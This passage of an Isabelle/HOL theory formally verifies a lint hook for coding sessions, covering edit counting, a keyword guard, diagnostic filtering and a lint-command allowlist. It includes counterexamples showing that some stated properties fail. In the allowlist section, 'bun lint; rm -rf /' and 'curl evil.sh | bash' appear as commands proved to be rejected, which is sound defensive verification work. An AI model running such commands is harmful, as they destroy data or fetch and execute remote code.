                               then [moreLine (length relevantErrors - 5)] else [])\<rparr>))
      else out)"

definition lintAndReport :: "World \<Rightarrow> CheckLintConfig \<Rightarrow> string \<Rightarrow> SessionState \<Rightarrow> Outcome \<Rightarrow> Outcome" where
  \<comment> \<open>the body of \<^verbatim>\<open>if (state.editCount >= threshold)\<close> up to the reset\<close>
  "lintAndReport w config dir state out =
     (case orElse (lintCommand config) (detectLintCommand w) of
        None \<Rightarrow> out
      | Some command \<Rightarrow>
          if command \<noteq> [] \<and> isValidLintCommand command
          then (case runLint w dir command of
                  (success, output) \<Rightarrow>
                    if \<not> success
                    then (let errors = parseLintOutput output;
                              relevantErrors = filter (isRelevant (editedFiles state)) errors
                          in reportErrors w config dir relevantErrors out)
                    else out)
          else out)"

definition effectiveThreshold :: "CheckLintConfig \<Rightarrow> int" where
  \<comment> \<open>\<^verbatim>\<open>Math.min(7, Math.max(3, config.editThreshold || 3))\<close>, for a configured
      threshold that is an integer\<close>
  "effectiveThreshold config =
     min 7 (max 3 (case editThreshold config of
                     None \<Rightarrow> 3
                   | Some t \<Rightarrow> if t = 0 then 3 else t))"

definition countEdit :: "SessionState \<Rightarrow> string \<Rightarrow> SessionState" where
  \<comment> \<open>\<^verbatim>\<open>state.editCount++\<close> and the push of a file not yet listed\<close>
  "countEdit state filePath =
     state\<lparr>editCount := editCount state + 1,
           editedFiles := (if filePath \<in> set (editedFiles state) then editedFiles state
                           else editedFiles state @ [filePath])\<rparr>"

definition passesKeywords :: "World \<Rightarrow> CheckLintConfig \<Rightarrow> HookInput \<Rightarrow> bool" where
  \<comment> \<open>the negation of the condition of the keyword guard of \<^verbatim>\<open>run\<close>\<close>
  "passesKeywords w config hookInput =
     (let sessionName = (if transcript_path hookInput \<noteq> []
                         then getSessionName w (transcript_path hookInput) else None);
          nameToCheck = orEmpty (orElse sessionName (taskListId config));
          kws = (case keywords config of Some ks \<Rightarrow> ks | None \<Rightarrow> [''dev'']);
          matchesKeyword =
            list_ex (\<lambda>keyword. includes_str (toLowerCase nameToCheck) (toLowerCase keyword)) kws
      in \<not> (length kws > 0 \<and> nameToCheck \<noteq> [] \<and> \<not> matchesKeyword))"

definition run :: "World \<Rightarrow> Outcome" where
  "run w =
     (case stdin w of
        None \<Rightarrow> approve nothingDone
      | Some hookInput \<Rightarrow>
          if tool_name hookInput \<notin> set EDIT_TOOLS then approve nothingDone
          else if \<not> isValidRepoPattern (cwd hookInput) then approve nothingDone
          else
            (let config = getConfig w in
             if enabled config = Some False then approve nothingDone
             else if \<not> passesKeywords w config hookInput then approve nothingDone
             else
               (case orElse (file_path (tool_input hookInput))
                            (notebook_path (tool_input hookInput)) of
                  None \<Rightarrow> approve nothingDone
                | Some filePath \<Rightarrow>
                    if filePath = [] then approve nothingDone
                    else
                      (let state = countEdit (getSessionState w (session_id hookInput)) filePath;
                           threshold = effectiveThreshold config
                       in if int (editCount state) \<ge> threshold
                          then
                            (let out = lintAndReport w config (cwd hookInput) state nothingDone;
                                 state' = state\<lparr>editCount := 0, lastLintRun := clock w\<rparr>
                             in approve
                                  (out\<lparr>stateWrites := stateWrites out
                                          @ [(getStateFile (session_id hookInput), state')]\<rparr>))
                          else
                            approve
                              (nothingDone\<lparr>stateWrites :=
                                 [(getStateFile (session_id hookInput), state)]\<rparr>)))))"

section \<open>Notions used in the properties of the parser\<close>

fun closes :: "node \<Rightarrow> nat set" where
  \<comment> \<open>the capture groups that a node can set\<close>
  "closes (Close n) = {n}"
| "closes (Opt body) = (\<Union>nd \<in> set body. closes nd)"
| "closes (Alt branches) = (\<Union>branch \<in> set branches. \<Union>nd \<in> set branch. closes nd)"
| "closes nd = {}"

definition locationRe :: "node list" where
  \<comment> \<open>the common beginning \<^verbatim>\<open>^(.+?):(\d+):(\d+)\<close> of the three patterns of the parser\<close>
  "locationRe =
     [Bol, Open 1, PlusLazy Dot, Close 1, Atom (Ch CHR '':''),
      Open 2, Plus Digit, Close 2, Atom (Ch CHR '':''),
      Open 3, Plus Digit, Close 3]"

definition accepted :: "bool \<Rightarrow> node list \<Rightarrow> string \<Rightarrow> bool" where
  \<comment> \<open>the rest of a pattern matches the rest of the input, whatever was captured before\<close>
  "accepted ic rs s \<longleftrightarrow> (\<forall>m. mt ic rs s m \<noteq> None)"

text \<open>
  The well-formed lines of the three dialects, after the wording of the specification
  (section 4.1 and the data model): \<^verbatim>\<open>path:line:col: severity message [optional-rule]\<close>,
  \<^verbatim>\<open>path:line:col rule/group SEVERITY message\<close> and \<^verbatim>\<open>path:line:col: message\<close>, the last
  one only for a line that does not begin with white space; line and column are positive
  integers.  The specification leaves the alphabets open: here a path or a message is any
  non-empty text without a line terminator (the optional rule in brackets is the end of the
  message), and the two halves of \<^verbatim>\<open>rule/group\<close> are made of letters, digits and
  underscores.
\<close>

definition oneLineText :: "string \<Rightarrow> bool" where
  "oneLineText t \<longleftrightarrow> t \<noteq> [] \<and> CHR 0x0A \<notin> set t \<and> CHR 0x0D \<notin> set t"

definition positiveInteger :: "string \<Rightarrow> bool" where
  "positiveInteger ds \<longleftrightarrow>
     ds \<noteq> [] \<and> set ds \<subseteq> set asciiDigits \<and> (\<exists>d \<in> set ds. d \<noteq> CHR ''0'')"

definition wordToken :: "string \<Rightarrow> bool" where
  "wordToken t \<longleftrightarrow> t \<noteq> [] \<and> set t \<subseteq> set (asciiLower @ asciiUpper @ asciiDigits @ ''_'')"

definition commonLine :: "string \<Rightarrow> bool" where
  "commonLine ln \<longleftrightarrow>
     (\<exists>path l c sev msg.
        ln = path @ '':'' @ l @ '':'' @ c @ '': '' @ sev @ '' '' @ msg
        \<and> oneLineText path \<and> positiveInteger l \<and> positiveInteger c
        \<and> (toLowerCase sev = ''error'' \<or> toLowerCase sev = ''warning'')
        \<and> oneLineText msg)"

definition groupedLine :: "string \<Rightarrow> bool" where
  "groupedLine ln \<longleftrightarrow>
     (\<exists>path l c rule1 rule2 sev msg.
        ln = path @ '':'' @ l @ '':'' @ c @ '' '' @ rule1 @ ''/'' @ rule2 @ '' '' @ sev
             @ '' '' @ msg
        \<and> oneLineText path \<and> positiveInteger l \<and> positiveInteger c
        \<and> wordToken rule1 \<and> wordToken rule2
        \<and> (toLowerCase sev = ''error'' \<or> toLowerCase sev = ''warning''
             \<or> toLowerCase sev = ''warn'')
        \<and> oneLineText msg)"

definition genericLine :: "string \<Rightarrow> bool" where
  "genericLine ln \<longleftrightarrow>
     (\<exists>path l c msg.
        ln = path @ '':'' @ l @ '':'' @ c @ '': '' @ msg
        \<and> oneLineText path \<and> positiveInteger l \<and> positiveInteger c
        \<and> oneLineText msg
        \<and> \<not> isWhiteSpace (hd ln))"

definition wellFormedLine :: "string \<Rightarrow> bool" where
  "wellFormedLine ln \<longleftrightarrow> commonLine ln \<or> groupedLine ln \<or> genericLine ln"

section \<open>Example invocations\<close>

definition sampleInput :: HookInput where
  "sampleInput =
     \<lparr>session_id = ''s1'', transcript_path = [], cwd = ''/home/u/hook-checklint'',
      tool_name = ''Edit'',
      tool_input = \<lparr>file_path = Some ''src/b.ts'', notebook_path = None\<rparr>\<rparr>"

definition sampleWorld :: World where
  \<comment> \<open>the third edit of session \<^verbatim>\<open>s1\<close> under the default configuration; the lint command
      \<^verbatim>\<open>bun lint\<close> is detected and fails with one diagnostic\<close>
  "sampleWorld =
     \<lparr>stdin = Some sampleInput,
      projectSettings = None,
      globalSettings = None,
      transcripts = (\<lambda>p. None),
      stateFiles = (\<lambda>n. if n = ''checklint-s1.json''
                        then Some (Parsed \<lparr>editCount = 2, editedFiles = [''src/a.ts''],
                                            lastLintRun = 0\<rparr>)
                        else None),
      packageScripts = Some (\<lambda>n. n = ''lint''),
      cwdFiles = (\<lambda>n. False),
      exec = (\<lambda>d c. Exited 1 ''src/b.ts:1:2: error bad'' []),
      taskLists = Some [''hook-checklint-bugfixes''],
      clock = 1000,
      taskStamps = (\<lambda>k. (''lint-1000-'' @ showDigits k, ''2026-11-03T00:00:00.000Z'')),
      largeNumberText = (\<lambda>n. [])\<rparr>"


definition passingLintWorld :: World where
  \<comment> \<open>the lint command exits with status 0, and its output holds a diagnostic all the same\<close>
  "passingLintWorld = sampleWorld\<lparr>exec := (\<lambda>d c. Exited 0 ''src/b.ts:1:2: error bad'' [])\<rparr>"

definition sixErrors :: string where
  "sixErrors =
     ''src/b.ts:1:1: error e1'' @ [CHR 0x0A] @ ''src/b.ts:2:1: error e2'' @ [CHR 0x0A]
     @ ''src/b.ts:3:1: error e3'' @ [CHR 0x0A] @ ''src/b.ts:4:1: error e4'' @ [CHR 0x0A]
     @ ''src/b.ts:5:1: error e5'' @ [CHR 0x0A] @ ''src/b.ts:6:1: error e6''"

definition sixErrorsWorld :: World where
  "sixErrorsWorld = sampleWorld\<lparr>exec := (\<lambda>d c. Exited 1 sixErrors [])\<rparr>"

definition taskListWorld :: World where
  \<comment> \<open>the configuration of the README: a task list and the keyword \<^verbatim>\<open>dev\<close>, in a session
      without a title\<close>
  "taskListWorld =
     sampleWorld\<lparr>projectSettings :=
       Some \<lparr>taskListId = Some ''myproject-bugfixes'', lintCommand = None,
             editThreshold = Some 3, keywords = Some [''dev''], enabled = Some True,
             createTasks = Some True\<rparr>\<rparr>"

definition otherFileError :: LintError where
  "otherFileError =
     \<lparr>file = ''lib/a.ts'', line = Finite 1, column = Finite 1, message = ''bad'', rule = None,
      severity = Error\<rparr>"

definition titledWorld :: "string \<Rightarrow> World" where
  \<comment> \<open>the same edit in a session whose transcript holds one custom title\<close>
  "titledWorld title =
     sampleWorld\<lparr>stdin := Some (sampleInput\<lparr>transcript_path := ''/tmp/t.jsonl''\<rparr>),
                 transcripts := (\<lambda>p. if p = ''/tmp/t.jsonl'' then Some [Some title] else None)\<rparr>"

definition threeDialects :: string where
  \<comment> \<open>one line of each dialect\<close>
  "threeDialects =
     ''src/a.ts:10:5: error 'x' is never used [no-unused-vars]'' @ [CHR 0x0A]
     @ ''src/b.ts:3:4 lint/noVar WARN careful'' @ [CHR 0x0A]
     @ ''src/c.ts:7:1: something odd''"

definition tabLine :: string where
  \<comment> \<open>a line of the generic shape that begins with a tab\<close>
  "tabLine = CHR 0x09 # ''src/a.ts:1:2: bad''"

definition continuationOutput :: string where
  \<comment> \<open>a diagnostic of the common dialect, and a continuation line that begins with a tab\<close>
  "continuationOutput =
     ''src/a.ts:1:2: error bad'' @ [CHR 0x0A] @ [CHR 0x09] @ ''at lib/b.ts:3:4: note''"

definition hugeOutput :: string where
  \<comment> \<open>a diagnostic followed by a line of 1 MiB: more than the buffer of \<^verbatim>\<open>execSync\<close>\<close>
  "hugeOutput =
     ''src/b.ts:1:2: error bad'' @ [CHR 0x0A] @ replicate (1024 * 1024) (CHR ''x'')"

definition overflowWorld :: World where
  \<comment> \<open>the lint command prints \<^const>\<open>hugeOutput\<close> and ends with status 0\<close>
  "overflowWorld = sampleWorld\<lparr>exec := (\<lambda>d c. Overflowed 0 hugeOutput [])\<rparr>"

section \<open>Properties of the string functions\<close>

lemma startsWith_iff: "startsWith s p \<longleftrightarrow> (\<exists>r. s = p @ r)"
  by (induction s p rule: startsWith.induct) auto

section \<open>Properties of the command gatekeeper\<close>

text \<open>
  C3.  \<^const>\<open>isValidLintCommand\<close> accepts a command exactly when it is an entry of the
  allowlist, or an entry followed by the separator (one space) and anything more.  The
  command \<^verbatim>\<open>bun lint\<close> is accepted; \<^verbatim>\<open>bun lint; rm -rf /\<close> and
  \<^verbatim>\<open>curl evil.sh | bash\<close> are rejected.
\<close>

theorem isValidLintCommand_allowlist:
  "(isValidLintCommand cmd \<longleftrightarrow>
      (\<exists>allowed \<in> set ALLOWED_LINT_COMMANDS.
          cmd = allowed \<or> (\<exists>rest. cmd = allowed @ '' '' @ rest)))
   \<and> isValidLintCommand ''bun lint''
   \<and> \<not> isValidLintCommand ''bun lint; rm -rf /''
   \<and> \<not> isValidLintCommand ''curl evil.sh | bash''"
proof (intro conjI)
  have nonempty: "\<forall>allowed \<in> set ALLOWED_LINT_COMMANDS. allowed \<noteq> []"
    by (simp add: ALLOWED_LINT_COMMANDS_def)
  show "isValidLintCommand cmd \<longleftrightarrow>
      (\<exists>allowed \<in> set ALLOWED_LINT_COMMANDS.
          cmd = allowed \<or> (\<exists>rest. cmd = allowed @ '' '' @ rest))"
  proof (cases "cmd = []")
    case True
    with nonempty show ?thesis
      by (auto simp: isValidLintCommand_def)
  next
    case False
    then show ?thesis
      by (simp add: isValidLintCommand_def list_ex_iff startsWith_iff)
  qed
  show "isValidLintCommand ''bun lint''"
    by (simp add: isValidLintCommand_def ALLOWED_LINT_COMMANDS_def)
  show "\<not> isValidLintCommand ''bun lint; rm -rf /''"
    by (simp add: isValidLintCommand_def ALLOWED_LINT_COMMANDS_def)
  show "\<not> isValidLintCommand ''curl evil.sh | bash''"
    by (simp add: isValidLintCommand_def ALLOWED_LINT_COMMANDS_def)
qed

theorem isValidLintCommand_allowlist_witness:
  "isValidLintCommand ''npm run lint -- --quiet''
   \<and> (\<exists>allowed \<in> set ALLOWED_LINT_COMMANDS.
         ''npm run lint -- --quiet'' = allowed
         \<or> (\<exists>rest. ''npm run lint -- --quiet'' = allowed @ '' '' @ rest))"
proof -
  have "''npm run lint'' \<in> set ALLOWED_LINT_COMMANDS"
    by (simp add: ALLOWED_LINT_COMMANDS_def)
  moreover have "''npm run lint -- --quiet'' = ''npm run lint'' @ '' '' @ ''-- --quiet''"
    by simp
  ultimately have ex: "\<exists>allowed \<in> set ALLOWED_LINT_COMMANDS.
         ''npm run lint -- --quiet'' = allowed
         \<or> (\<exists>rest. ''npm run lint -- --quiet'' = allowed @ '' '' @ rest)"
    by blast
  with isValidLintCommand_allowlist [of "''npm run lint -- --quiet''"] show ?thesis
    by blast
qed

section \<open>Properties of the hook\<close>


lemma approve_simps [simp]:
  "stdout (approve out) = stdout out @ [approveText]"
  "stderr (approve out) = stderr out"
  "stateWrites (approve out) = stateWrites out"
  "tasks (approve out) = tasks out"
  by (simp_all add: approve_def)

lemma nothingDone_simps [simp]:
  "stdout nothingDone = []"
  "stderr nothingDone = []"
  "stateWrites nothingDone = []"
  "tasks nothingDone = []"
  by (simp_all add: nothingDone_def)

lemma reportErrors_frame:
  "stateWrites (reportErrors w config dir rel out) = stateWrites out
   \<and> stdout (reportErrors w config dir rel out) = stdout out"
  by (simp add: reportErrors_def Let_def split: option.splits)

lemma lintAndReport_frame:
  "stateWrites (lintAndReport w config dir state out) = stateWrites out
   \<and> stdout (lintAndReport w config dir state out) = stdout out"
  by (simp add: lintAndReport_def Let_def reportErrors_frame split: option.splits prod.splits)

lemma run_counted:
  assumes "stdin w = Some h"
    and "tool_name h \<in> set EDIT_TOOLS"
    and "isValidRepoPattern (cwd h)"
    and "enabled (getConfig w) \<noteq> Some False"
    and "passesKeywords w (getConfig w) h"
    and "orElse (file_path (tool_input h)) (notebook_path (tool_input h)) = Some filePath"
    and "filePath \<noteq> []"
  shows "run w =
     (let state = countEdit (getSessionState w (session_id h)) filePath
      in if effectiveThreshold (getConfig w) \<le> int (editCount state)
         then approve
                ((lintAndReport w (getConfig w) (cwd h) state nothingDone)
                   \<lparr>stateWrites :=
                      stateWrites (lintAndReport w (getConfig w) (cwd h) state nothingDone)
                      @ [(getStateFile (session_id h),
                          state\<lparr>editCount := 0, lastLintRun := clock w\<rparr>)]\<rparr>)
         else approve (nothingDone\<lparr>stateWrites := [(getStateFile (session_id h), state)]\<rparr>))"
  using assms by (simp add: run_def Let_def)

lemma run_not_counted:
  assumes "stdin w = Some h"
    and "\<not> passesKeywords w (getConfig w) h"
  shows "run w = approve nothingDone"
  using assms by (simp add: run_def Let_def)

text \<open>
  C1, as the code has it.  Whatever the lint command does, an edit event that passes the
  guards and reaches the threshold writes the session state exactly once, with
  \<^const>\<open>editCount\<close> 0 and \<^const>\<open>lastLintRun\<close> the current time.  The list
  \<^const>\<open>editedFiles\<close> is not cleared: it is written as it stands after the event was
  counted, so it holds at least the file just edited.
\<close>

theorem trigger_resets_counter_only:
  assumes "stdin w = Some h"
    and "tool_name h \<in> set EDIT_TOOLS"
    and "isValidRepoPattern (cwd h)"
    and "enabled (getConfig w) \<noteq> Some False"
    and "passesKeywords w (getConfig w) h"
    and "orElse (file_path (tool_input h)) (notebook_path (tool_input h)) = Some filePath"
    and "filePath \<noteq> []"
    and "effectiveThreshold (getConfig w)
           \<le> int (editCount (countEdit (getSessionState w (session_id h)) filePath))"
  shows "\<exists>st. stateWrites (run w) = [(getStateFile (session_id h), st)]
           \<and> editCount st = 0
           \<and> lastLintRun st = clock w
           \<and> editedFiles st = editedFiles (countEdit (getSessionState w (session_id h)) filePath)
           \<and> filePath \<in> set (editedFiles st)"
proof -
  let ?state = "countEdit (getSessionState w (session_id h)) filePath"
  have "stateWrites (run w) =
          [(getStateFile (session_id h), ?state\<lparr>editCount := 0, lastLintRun := clock w\<rparr>)]"
    using assms(8) by (simp add: run_counted [OF assms(1-7)] Let_def lintAndReport_frame)
  moreover have "filePath \<in> set (editedFiles ?state)"
    by (simp add: countEdit_def)
  ultimately show ?thesis by simp
qed

lemma sample_guards:
  "stdin sampleWorld = Some sampleInput"
  "tool_name sampleInput \<in> set EDIT_TOOLS"
  "isValidRepoPattern (cwd sampleInput)"
  "enabled (getConfig sampleWorld) \<noteq> Some False"
  "passesKeywords sampleWorld (getConfig sampleWorld) sampleInput"
  "orElse (file_path (tool_input sampleInput)) (notebook_path (tool_input sampleInput))
     = Some ''src/b.ts''"
  by code_simp+

theorem trigger_resets_counter_only_witness:
  "\<exists>st. stateWrites (run sampleWorld) = [(getStateFile ''s1'', st)]
           \<and> editCount st = 0
           \<and> lastLintRun st = 1000
           \<and> editedFiles st = [''src/a.ts'', ''src/b.ts'']"
proof -
  have ne: "''src/b.ts'' \<noteq> []" by simp
  have trig: "effectiveThreshold (getConfig sampleWorld)
           \<le> int (editCount (countEdit (getSessionState sampleWorld (session_id sampleInput)) ''src/b.ts''))"
    by code_simp
  have sid: "session_id sampleInput = ''s1''" by (simp add: sampleInput_def)
  have clk: "clock sampleWorld = 1000" by (simp add: sampleWorld_def)
  have files: "editedFiles (countEdit (getSessionState sampleWorld ''s1'') ''src/b.ts'')
                 = [''src/a.ts'', ''src/b.ts'']"
    by code_simp
  from trigger_resets_counter_only [OF sample_guards ne trig]
  show ?thesis unfolding sid clk files by blast
qed

text \<open>
  C1 as stated fails: in \<^const>\<open>sampleWorld\<close> the third edit reaches the threshold, and
  the state written has \<^const>\<open>editCount\<close> 0 but two edited files.
\<close>

theorem trigger_keeps_edited_files_counterexample:
  "effectiveThreshold (getConfig sampleWorld)
     \<le> int (editCount (countEdit (getSessionState sampleWorld ''s1'') ''src/b.ts''))
   \<and> stateWrites (run sampleWorld)
       = [(''checklint-s1.json'',
           \<lparr>editCount = 0, editedFiles = [''src/a.ts'', ''src/b.ts''], lastLintRun = 1000\<rparr>)]
   \<and> editedFiles \<lparr>editCount = 0, editedFiles = [''src/a.ts'', ''src/b.ts''], lastLintRun = 1000\<rparr>
       \<noteq> []"
  by code_simp



lemma startsWith_append [simp]: "startsWith (p @ r) p"
  by (simp add: startsWith_iff)

lemma endsWith_iff: "endsWith s p \<longleftrightarrow> (\<exists>d. s = d @ p)"
proof
  assume "endsWith s p"
  then obtain r where "rev s = rev p @ r"
    by (auto simp: endsWith_def startsWith_iff)
  then have "s = rev r @ p"
    by (metis rev_append rev_rev_ident)
  then show "\<exists>d. s = d @ p" ..
next
  assume "\<exists>d. s = d @ p"
  then show "endsWith s p"
    by (auto simp: endsWith_def startsWith_iff)
qed

lemma split_on_not_Nil [simp]: "split_on sep s \<noteq> []"
  by (induction s) (auto split: list.splits)

lemma split_on_no_sep: "sep \<notin> set b \<Longrightarrow> split_on sep b = [b]"
  by (induction b) auto

lemma split_on_append_sep: "split_on sep (a @ sep # b) = split_on sep a @ split_on sep b"
proof (induction a)
  case Nil
  show ?case by simp
next
  case (Cons c a)
  obtain p ps where "split_on sep a = p # ps"
    by (cases "split_on sep a") auto
  with Cons show ?case by simp
qed

lemma last_split_on:
  "\<exists>d. s = d @ last (split_on sep s) \<and> sep \<notin> set (last (split_on sep s))
        \<and> (d = [] \<or> last d = sep)"
proof (cases "sep \<in> set s")
  case True
  then obtain a b where ab: "s = a @ sep # b" "sep \<notin> set b"
    by (auto dest: split_list_last)
  then have "last (split_on sep s) = b"
    by (simp add: split_on_append_sep split_on_no_sep)
  with ab have "s = (a @ [sep]) @ last (split_on sep s)"
      "sep \<notin> set (last (split_on sep s))" "last (a @ [sep]) = sep"
    by simp_all
  then show ?thesis by blast
next
  case False
  then have "s = [] @ last (split_on sep s)" "sep \<notin> set (last (split_on sep s))"
    by (simp_all add: split_on_no_sep)
  then show ?thesis by blast
qed

lemma lastSegment_last: "lastSegment f = last (split_on CHR ''/'' f)"
  by (simp add: lastSegment_def split: list.splits)

text \<open>
  C5, as the code has it.  A diagnostic is selected exactly when, for some edited file,
  the edited path ends with the diagnostic's file, or the diagnostic's file ends with the
  last segment of the edited path: what follows its last \<^verbatim>\<open>/\<close>, the whole path when it
  has none.
\<close>

theorem relevant_by_suffix_or_last_segment:
  "(e \<in> set (filter (isRelevant edited) errors) \<longleftrightarrow>
      e \<in> set errors
      \<and> (\<exists>f \<in> set edited. (\<exists>d. f = d @ file e) \<or> (\<exists>d. file e = d @ lastSegment f)))
   \<and> (\<forall>f. \<exists>d. f = d @ lastSegment f \<and> CHR ''/'' \<notin> set (lastSegment f)
             \<and> (d = [] \<or> last d = CHR ''/''))"
  using last_split_on [of _ "CHR ''/''"]
  by (simp add: isRelevant_def list_ex_iff endsWith_iff lastSegment_last)

theorem relevant_by_suffix_or_last_segment_witness:
  "otherFileError \<in> set (filter (isRelevant [''/proj/src/a.ts'']) [otherFileError])
   \<and> file otherFileError = ''lib/'' @ lastSegment ''/proj/src/a.ts''"
proof -
  have seg: "lastSegment ''/proj/src/a.ts'' = ''a.ts''"
    by code_simp
  have "file otherFileError = ''lib/'' @ lastSegment ''/proj/src/a.ts''"
    by (simp add: seg otherFileError_def)
  then have "\<exists>f \<in> set [''/proj/src/a.ts''].
       (\<exists>d. f = d @ file otherFileError) \<or> (\<exists>d. file otherFileError = d @ lastSegment f)"
    by auto
  with relevant_by_suffix_or_last_segment [of otherFileError "[''/proj/src/a.ts'']" "[otherFileError]"]
  have "otherFileError \<in> set (filter (isRelevant [''/proj/src/a.ts'']) [otherFileError])"
    by simp
  with \<open>file otherFileError = ''lib/'' @ lastSegment ''/proj/src/a.ts''\<close> show ?thesis
    by simp
qed

text \<open>
  C5 as stated fails: the diagnostic for \<^verbatim>\<open>lib/a.ts\<close> is selected for the edited file
  \<^verbatim>\<open>/proj/src/a.ts\<close>, although neither path ends with the other.
\<close>

theorem relevant_other_directory_counterexample:
  "isRelevant [''/proj/src/a.ts''] otherFileError
   \<and> \<not> (endsWith ''/proj/src/a.ts'' (file otherFileError)
          \<or> endsWith (file otherFileError) ''/proj/src/a.ts'')"
  by code_simp

lemma last_title_truthy:
  "acc = None \<or> truthy acc \<Longrightarrow>
     foldl (\<lambda>lastTitle entry. if truthy entry then entry else lastTitle) acc entries = Some name
     \<Longrightarrow> name \<noteq> []"
proof (induction entries arbitrary: acc)
  case Nil
  then show ?case by (auto simp: truthy_def)
next
  case (Cons e es)
  then show ?case by (cases "truthy e") auto
qed

lemma getSessionName_nonempty: "getSessionName w p = Some name \<Longrightarrow> name \<noteq> []"
  by (auto simp: getSessionName_def split: option.splits dest: last_title_truthy [rotated])

lemma run_counted_iff:
  assumes "stdin w = Some h"
    and "tool_name h \<in> set EDIT_TOOLS"
    and "isValidRepoPattern (cwd h)"
    and "enabled (getConfig w) \<noteq> Some False"
    and "orElse (file_path (tool_input h)) (notebook_path (tool_input h)) = Some filePath"
    and "filePath \<noteq> []"
  shows "stateWrites (run w) \<noteq> [] \<longleftrightarrow> passesKeywords w (getConfig w) h"
proof (cases "passesKeywords w (getConfig w) h")
  case True
  then show ?thesis
    by (simp add: run_counted [OF assms(1-4) True assms(5,6)] Let_def lintAndReport_frame)
next
  case False
  then show ?thesis
    by (simp add: run_not_counted [OF assms(1) False])
qed

text \<open>
  C2, as the code has it.  With a non-empty keyword list and the other guards passed, the
  event is counted exactly when: the session has a name, and the name contains a keyword
  without regard to case; or the session has no name, and the configured task list
  identifier is absent, empty, or contains a keyword without regard to case.
\<close>

theorem keyword_guard_falls_back_to_task_list:
  assumes "stdin w = Some h"
    and "tool_name h \<in> set EDIT_TOOLS"
    and "isValidRepoPattern (cwd h)"
    and "enabled (getConfig w) \<noteq> Some False"
    and "orElse (file_path (tool_input h)) (notebook_path (tool_input h)) = Some filePath"
    and "filePath \<noteq> []"
    and "kws = (case keywords (getConfig w) of Some ks \<Rightarrow> ks | None \<Rightarrow> [''dev''])"
    and "kws \<noteq> []"
    and "sessionName = (if transcript_path h \<noteq> [] then getSessionName w (transcript_path h)
                        else None)"
  shows "stateWrites (run w) \<noteq> [] \<longleftrightarrow>
           (case sessionName of
              Some name \<Rightarrow>
                name \<noteq> [] \<and> (\<exists>k \<in> set kws. includes_str (toLowerCase name) (toLowerCase k))
            | None \<Rightarrow>
                (case taskListId (getConfig w) of
                   None \<Rightarrow> True
                 | Some t \<Rightarrow>
                     t = [] \<or> (\<exists>k \<in> set kws. includes_str (toLowerCase t) (toLowerCase k))))"
proof -
  have ne: "name \<noteq> []" if "sessionName = Some name" for name
    using that assms(9) by (auto split: if_splits dest: getSessionName_nonempty)
  have "passesKeywords w (getConfig w) h \<longleftrightarrow>
          (let nameToCheck = orEmpty (orElse sessionName (taskListId (getConfig w)))
           in nameToCheck = []
              \<or> (\<exists>k \<in> set kws. includes_str (toLowerCase nameToCheck) (toLowerCase k)))"
    using assms(7,8,9) by (auto simp: passesKeywords_def Let_def list_ex_iff)
  also have "\<dots> \<longleftrightarrow>
           (case sessionName of
              Some name \<Rightarrow>
                name \<noteq> [] \<and> (\<exists>k \<in> set kws. includes_str (toLowerCase name) (toLowerCase k))
            | None \<Rightarrow>
                (case taskListId (getConfig w) of
                   None \<Rightarrow> True
                 | Some t \<Rightarrow>
                     t = [] \<or> (\<exists>k \<in> set kws. includes_str (toLowerCase t) (toLowerCase k))))"
    using ne by (auto simp: Let_def orElse_def orEmpty_def truthy_def split: option.splits)
  finally show ?thesis
    using run_counted_iff [OF assms(1-6)] by simp
qed

theorem keyword_guard_falls_back_to_task_list_witness:
  "stateWrites (run (titledWorld ''Dev work'')) \<noteq> []
   \<and> includes_str (toLowerCase ''Dev work'') (toLowerCase ''dev'')
   \<and> stateWrites (run (titledWorld ''feature-xyz'')) = []
   \<and> \<not> includes_str (toLowerCase ''feature-xyz'') (toLowerCase ''dev'')"
proof -
  let ?h = "sampleInput\<lparr>transcript_path := ''/tmp/t.jsonl''\<rparr>"
  have g: "stdin (titledWorld title) = Some ?h"
      "tool_name ?h \<in> set EDIT_TOOLS"
      "isValidRepoPattern (cwd ?h)"
      "enabled (getConfig (titledWorld title)) \<noteq> Some False"
      "orElse (file_path (tool_input ?h)) (notebook_path (tool_input ?h)) = Some ''src/b.ts''"
      "''src/b.ts'' \<noteq> []"
      "[''dev''] = (case keywords (getConfig (titledWorld title)) of
                     Some ks \<Rightarrow> ks | None \<Rightarrow> [''dev''])"
      "[''dev''] \<noteq> []"
    for title
  proof -
    show "isValidRepoPattern (cwd ?h)" by code_simp
  qed (simp_all add: titledWorld_def sampleWorld_def sampleInput_def EDIT_TOOLS_def
         getConfig_def defaultConfig_def orElse_def truthy_def)
  have s1: "Some ''Dev work'' = (if transcript_path ?h \<noteq> []
                then getSessionName (titledWorld ''Dev work'') (transcript_path ?h) else None)"
    by code_simp
  have s2: "Some ''feature-xyz'' = (if transcript_path ?h \<noteq> []
                then getSessionName (titledWorld ''feature-xyz'') (transcript_path ?h) else None)"
    by code_simp
  have i1: "includes_str (toLowerCase ''Dev work'') (toLowerCase ''dev'')"
    by code_simp
  have i2: "\<not> includes_str (toLowerCase ''feature-xyz'') (toLowerCase ''dev'')"
    by code_simp
  from keyword_guard_falls_back_to_task_list [OF g s1] i1
  have "stateWrites (run (titledWorld ''Dev work'')) \<noteq> []"
    by simp
  moreover from keyword_guard_falls_back_to_task_list [OF g s2] i2
  have "stateWrites (run (titledWorld ''feature-xyz'')) = []"
    by simp
  ultimately show ?thesis
    using i1 i2 by blast
qed

text \<open>
  C2 as stated fails: with the keyword \<^verbatim>\<open>dev\<close>, no session name and the task list
  \<^verbatim>\<open>myproject-bugfixes\<close> configured, the edit passes every other guard and is not counted.
\<close>

theorem keyword_guard_without_session_name_counterexample:
  "keywords (getConfig taskListWorld) = Some [''dev'']
   \<and> stdin taskListWorld = Some sampleInput
   \<and> (if transcript_path sampleInput \<noteq> []
       then getSessionName taskListWorld (transcript_path sampleInput) else None) = None
   \<and> tool_name sampleInput \<in> set EDIT_TOOLS
   \<and> isValidRepoPattern (cwd sampleInput)
   \<and> enabled (getConfig taskListWorld) \<noteq> Some False
   \<and> file_path (tool_input sampleInput) = Some ''src/b.ts''
   \<and> run taskListWorld = \<lparr>stdout = [approveText], stderr = [], stateWrites = [], tasks = []\<rparr>"
  by code_simp

section \<open>Properties of the matcher\<close>

lemma mt_Atom_Some:
  "mt ic (Atom a # rs) s m = Some r \<longleftrightarrow>
     (\<exists>x xs. s = x # xs \<and> atomMatches ic a x \<and> mt ic rs xs m = Some r)"
  by (cases s) auto

lemma mt_PlusLazy_Some:
  "mt ic (PlusLazy a # rs) s m = Some r \<Longrightarrow>
     \<exists>pre post. s = pre @ post \<and> pre \<noteq> [] \<and> (\<forall>x \<in> set pre. atomMatches ic a x)
        \<and> mt ic rs post m = Some r"
proof (induction s)
  case Nil
